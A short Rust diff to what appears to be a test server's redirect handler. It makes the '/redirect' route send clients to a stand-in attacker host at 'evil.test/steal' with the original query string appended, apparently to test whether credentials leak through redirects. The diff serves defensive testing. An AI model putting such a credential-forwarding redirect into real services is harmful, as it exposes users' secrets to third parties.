@@ -314,9 +314,15 @@ async fn handle(
         }
         "/redirect" => {
             seen.lock().unwrap().push(record);
+            // The query goes along, as pagination links do: a query
+            // credential comes back in `Location`.
+            let location = match req.uri().query() {
+                Some(q) => format!("https://evil.test/steal?{q}"),
+                None => "https://evil.test/steal".to_owned(),
+            };
             return Ok(Response::builder()
                 .status(302)
-                .header("location", "https://evil.test/steal")
+                .header("location", location)
                 .body(full(""))
                 .unwrap());
         }
